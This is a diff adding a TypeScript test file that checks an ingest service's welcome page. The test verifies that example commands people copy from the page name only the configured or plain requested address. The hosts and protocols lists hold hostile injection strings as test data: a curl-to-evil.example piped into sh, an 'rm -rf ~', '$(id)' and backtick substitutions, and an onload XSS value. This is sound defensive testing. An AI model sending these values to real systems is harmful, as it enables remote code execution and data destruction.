@@ -1,0 +1,59 @@
+// The page at `GET /` shows commands that people copy: what stands in them is where this service is, and nothing that
+// somebody else could have put there.
+import assert from 'node:assert/strict'
+import { after, before, test } from 'node:test'
+import { exampleAddress } from '../../apps/ingest/welcome/examples.ts'
+import { send } from '../support/request.ts'
+import { type Process, startProcess } from '../support/service.ts'
+import { openStage, type Stage } from '../support/stage.ts'
+
+let stage: Stage
+let unnamed: Process
+let named: Process
+before(async () => {
+  stage = await openStage()
+  const PUBLIC_URL = 'https://hooks.example.org/$&/gitlab/'
+  ;[unnamed, named] = await Promise.all([
+    stage.start('ingest'),
+    stage.start('ingest', { PUBLIC_URL, SPOOL_DIR: `${stage.environment.SPOOL_DIR}-2` }),
+  ])
+})
+after(() => stage?.close())
+
+const hosts = ['hooks.example.net', 'hooks.example.net:8443', "x';curl$IFS-evil.example|sh;'", 'x"onload=alert(1)', 'x`id`', 'x$(id)']
+const isPlain = (host: string) => /^[\w.:-]+$/.test(host)
+const protocols = ['https', 'http', "https'; rm -rf ~; '", 'https,http', 'javascript']
+
+async function page(at: Process, host: string, protocol: string) {
+  const headers = { host, 'x-forwarded-proto': protocol, 'x-forwarded-host': 'evil.example' }
+  const { status, headers: answered, body } = await send({ port: at.port(), path: '/', method: 'GET', headers })
+  const addresses = new Set(
+    [...body.toString().matchAll(/(\S{0,40}:\/\/.{0,60}?)\/sse\/\?kind/g)].map(([, address = '']) => address.replace(/^.*(?=http)/, '')),
+  )
+  return { status, cached: answered['cache-control'], addresses: [...addresses] }
+}
+
+test('with PUBLIC_URL the examples name that, whatever a request says about itself', async () => {
+  for (const host of hosts)
+    for (const protocol of protocols) {
+      const { status, addresses, cached } = await page(named, host, protocol)
+      if (status === 400 && !isPlain(host)) continue
+      assert.deepEqual([addresses, cached], [['https://hooks.example.org/$&amp;/gitlab'], 'max-age=300'], `${protocol} ${host}`)
+    }
+})
+
+test('without it they name the host that was asked for, if that is a plain one, and nobody may keep the page for others', async () => {
+  for (const host of hosts)
+    for (const protocol of protocols) {
+      const { status, addresses, cached } = await page(unnamed, host, protocol)
+      if (status === 400 && !isPlain(host)) continue
+      const expected = isPlain(host) ? `${protocol === 'https' ? 'https' : 'http'}://${host}` : exampleAddress
+      assert.deepEqual([addresses, cached], [[expected], 'no-store'], `${protocol} ${host}`)
+    }
+})
+
+test('a PUBLIC_URL that is no address is a mistake', async () => {
+  const bad = startProcess('ingest', { ...stage.environment, PUBLIC_URL: "https://x';id;'" })
+  assert.equal(await bad.exit, 78)
+  assert.match(bad.text(), /PUBLIC_URL: expected an address/)
+})
